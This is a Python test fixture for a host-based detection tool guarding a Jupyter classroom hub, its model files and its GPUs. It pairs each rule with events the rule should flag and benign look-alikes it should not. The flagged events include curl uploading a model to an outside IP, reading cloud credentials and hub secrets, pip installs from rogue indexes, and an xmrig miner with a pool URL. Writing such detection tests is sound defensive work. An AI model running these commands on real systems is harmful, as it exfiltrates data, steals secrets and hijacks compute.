"""Notebooks, models and accelerators: of each rule, events that it must tell and events close by that it must not."""

from __future__ import annotations

from dataclasses import replace

from lichen_guard.event import Event

from .rule_actors import DPKG, DROPPED, HUB, KERNEL, LAB, MODEL, NGINX, PYTHON, TERMINAL, UNIT, by, moved, ran, touches
from .rule_scene import SYSTEMD, connects, listens

ROWS: dict[str, tuple[list[Event], list[Event]]] = {
    "Notebook started a shell": (
        [ran("/bin/sh", "-c", "ls", exe="/usr/bin/dash", parent=KERNEL)],
        [replace(ran("x"), process=TERMINAL), ran("ls", parent=TERMINAL), ran("git", "status", parent=KERNEL)],
    ),
    "Notebook sends files away": (
        [
            ran("curl", "-T", "model.pt", "http://203.0.113.9", parent=KERNEL),
            ran("rclone", "copy", "data", "r:x", parent=by("sh", parent=KERNEL)),
        ],
        [ran("curl", "-O", "http://a/data.csv", parent=KERNEL), ran("scp", "a", "host:b", parent=TERMINAL)],
    ),
    "Notebook reads credentials": (
        [
            touches("/srv/classroom/homes/ann/.aws/credentials", KERNEL, "r"),
            touches("/home/ann/.netrc", by("cat", parent=KERNEL), "r"),
        ],
        [
            touches("/home/ann/data.csv", KERNEL, "r"),
            touches("/home/ann/.ssh/config", by("ssh", parent=KERNEL), "r"),
            touches("/home/ann/.netrc", by("cat", parent=TERMINAL), "r"),
        ],
    ),
    "Notebook listens to the network": (
        [listens(KERNEL, "0.0.0.0", 8000)],
        [listens(LAB, "127.0.0.1", 45555), listens(NGINX, "0.0.0.0", 80)],
    ),
    "Notebook talks to the hub's proxy": (
        [connects(KERNEL, "127.0.0.1", 8001)],
        [connects(LAB, "127.0.0.1", 8081), connects(HUB, "127.0.0.1", 8001)],
    ),
    "Hub's secrets read": (
        [
            touches("/srv/classroom/hub/cookie_secret", by("cat"), "r"),
            touches("/srv/classroom/tls/key.pem", KERNEL, "r"),
        ],
        [
            touches("/srv/classroom/hub/jupyterhub.sqlite", HUB, "rw"),
            touches("/srv/classroom/tls/key.pem", SYSTEMD, "r"),
            touches("/srv/classroom/tls/cert.pem", by("openssl"), "r"),
        ],
    ),
    "Hub started an unexpected program": (
        [ran("curl", "http://a", parent=HUB), ran("sh", "-c", "id", exe="/usr/bin/dash", parent=HUB)],
        [
            ran("systemd-run", "--unit", UNIT, parent=HUB),
            ran("/bin/bash", "-c", "exec x", exe="/usr/bin/bash", unit=UNIT),
        ],
    ),
    "Model file read by a transfer program": (
        [touches("/srv/models/llm.safetensors", by("curl"), "r")],
        [touches("/srv/models/llm.safetensors", MODEL, "r"), touches("/home/ann/x", by("curl"), "r")],
    ),
    "Model or data packed": (
        [ran("tar", "-cf", "/tmp/m.tar", "/srv/models")],
        [ran("tar", "-xf", "m.tar"), ran("ls", "/srv/models")],
    ),
    "Model file changed": (
        [moved("/tmp/m", "/srv/models/llm.gguf"), touches("/srv/models/llm.gguf", PYTHON)],
        [touches("/srv/models/llm.gguf", MODEL, "r"), touches("/srv/models/llm.gguf", DPKG)],
    ),
    "Model service started a program": (
        [ran("sh", "-c", "id", exe="/usr/bin/dash", parent=MODEL), ran("curl", "http://a", parent=MODEL)],
        [
            ran("/opt/ai/bin/python", "-c", "worker", exe="/usr/bin/python3.13", parent=MODEL),
            ran("sh", "-c", "uname -p 2> /dev/null", exe="/usr/bin/dash", parent=MODEL),
            ran("sh", "-c", "id", exe="/usr/bin/dash", parent=PYTHON),
        ],
    ),
    "Python environment changed": (
        [touches("/opt/ai/lib/python3.13/site-packages/torch/__init__.py", PYTHON)],
        [
            touches("/opt/ai/lib/python3.13/site-packages/torch/__init__.py", PYTHON, "r"),
            touches("/opt/ai/lib/python3.13/site-packages/x.py", by("uv", tty=34817)),
        ],
    ),
    "Package installed from an unusual index": (
        [
            ran("pip", "install", "--extra-index-url", "http://203.0.113.9", "x"),
            ran("python3", "-m", "pip", "install", "--index-url", "http://a", "x"),
        ],
        [ran("pip", "install", "numpy"), ran("uv", "sync")],
    ),
    "Accelerator opened by an unexpected program": (
        [touches("/dev/nvidia0", DROPPED, "rw")],
        [
            touches("/dev/nvidia0", MODEL, "rw"),
            touches("/dev/nvidiactl", by("nvidia-smi"), "rw"),
            touches("/dev/null", DROPPED, "rw"),
        ],
    ),
    "Miner started": ([ran("xmrig"), ran("kworker", exe="/home/ann/xmrig")], [ran("grep", "xmrig")]),
    "Miner's arguments": (
        [ran("/home/ann/a", "-o", "stratum+tcp://p:3333")],
        [ran("grep", "-r", "stratum+tcp"), ran("/home/ann/a", "-o", "out")],
    ),
    "Connection to a mining pool's port": (
        [connects(PYTHON, "203.0.113.9", 3333)],
        [connects(PYTHON, "10.0.0.7", 3333), connects(PYTHON, "203.0.113.9", 443)],
    ),
}
